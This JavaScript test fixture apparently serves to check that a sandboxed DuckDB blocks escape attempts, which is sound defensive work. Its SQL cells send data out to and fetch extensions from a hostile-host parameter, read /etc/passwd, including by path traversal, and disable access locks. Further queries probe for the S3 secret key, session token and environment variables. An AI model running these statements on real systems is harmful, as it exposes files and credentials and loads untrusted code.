/**
 * Statements that would reach another host, another file, or a setting, each as one SQL cell. None may succeed.
 * @param {{ url: string, tcp: string }} hostile
 * @returns {Record<string, string>}
 */
export function sqlAttempts({ url, tcp }) {
  const s3 = `s3://bucket/x.parquet`;
  const writes = `(select 1 as stolen) to`;
  return {
    "read_csv of an address": `from read_csv('${url}/read.csv')`,
    "read_csv of an address from a variable": `set variable u = '${url}/variable.csv'; from read_csv(getvariable('u'))`,
    "read_csv by query()": `from query('from read_csv(''${url}/query.csv'')')`,
    "read_csv by a macro": `create macro reach(u) as table from read_csv(u); from reach('${url}/macro.csv')`,
    "read_csv by a view": `create view far as from read_csv('${url}/view.csv'); from far`,
    "read_csv by PREPARE": `prepare p as from read_csv($1); execute p('${url}/prepared.csv')`,
    "read_text of an address": `from read_text('${url}/text')`,
    "read_blob of an address": `from read_blob('${url}/blob')`,
    "an address in FROM": `from '${url}/from.parquet'`,
    "an address as a name": `from "${url}/name.csv"`,
    "glob of an address": `from glob('${url}/*')`,
    "sniff_csv of an address": `from sniff_csv('${url}/sniff.csv')`,
    "another host by TLS": `from read_csv('https://${tcp}/x.csv')`,
    "a bucket": `from read_parquet('${s3}')`,
    "Hugging Face": `from 'hf://datasets/x/y.csv'`,
    "COPY TO an address": `copy ${writes} '${url}/copied.csv'`,
    "COPY FROM an address": `create table got (a int); copy got from '${url}/from.csv'`,
    "COPY TO a bucket": `copy ${writes} 's3://bucket/x.csv'`,
    "EXPORT DATABASE": `export database '${url}/export'`,
    "IMPORT DATABASE": `import database '${url}/import'`,
    "ATTACH of an address": `attach '${url}/x.duckdb' as far; from far.t`,
    "ATTACH of another database": `attach ':memory:' as other; attach 'other.duckdb' as kept`,
    "ATTACH of SQLite": `attach '${url}/x.sqlite' as far (type sqlite)`,
    "the origin's private files": `from read_csv('opfs://planted.csv')`,
    "the origin's private files by text": `from read_text('opfs://planted.csv')`,
    "a file of the machine": `from read_text('/etc/passwd')`,
    "a file that climbs": `from read_text('src/../../etc/passwd')`,
    "all files": `from glob('**')`,
    "COPY TO a file": `copy ${writes} 'elsewhere.csv'`,
    "COPY TO a private file": `copy ${writes} 'opfs://written.csv'`,
    "INSTALL from an address": `install httpfs from '${url}'`,
    "FORCE INSTALL": `force install httpfs from '${url}'`,
    "INSTALL from the community": `install h3 from community`,
    "LOAD of an address": `load '${url}/x.duckdb_extension.wasm'`,
    "LOAD by name": `load httpfs`,
    "UPDATE EXTENSIONS": `update extensions`,
    "another repository": `set custom_extension_repository = '${url}'`,
    "another repository by PRAGMA": `pragma custom_extension_repository = '${url}'`,
    "unsigned extensions": `set allow_unsigned_extensions = true`,
    "loading by itself": `set autoload_known_extensions = true`,
    "access to the outside": `set enable_external_access = true`,
    "access by RESET": `reset enable_external_access`,
    "more folders": `set allowed_directories = ['/', 'opfs://', '${url}']`,
    "the lock": `set lock_configuration = false`,
    "a proxy": `set http_proxy = '${url}'`,
    "a home of its own": `set home_directory = 'opfs://'`,
    "a log file": `set log_query_path = 'opfs://log'`,
    "a profile file": `set profile_output = 'opfs://profile'; set enable_profiling = json`,
    "a secret": `create secret s (type s3, key_id 'x', secret 'y', endpoint '${tcp}')`,
  };
}

/** What DuckDB tells of itself: none of it may hold a secret. */
export const tellTales = {
  settings: "select string_agg(name || '=' || coalesce(value, ''), chr(10)) as t from duckdb_settings()",
  secrets: "select count(*) as t from duckdb_secrets()",
  variables: "select string_agg(name || '=' || value::varchar, chr(10)) as t from duckdb_variables()",
  views: "select string_agg(sql, chr(10)) as t from duckdb_views()",
  databases: "select string_agg(database_name || coalesce(path, ''), chr(10)) as t from duckdb_databases()",
  key: "select current_setting('s3_secret_access_key') as t",
  token: "select current_setting('s3_session_token') as t",
  environment: "select getenv('HOME') as t",
};
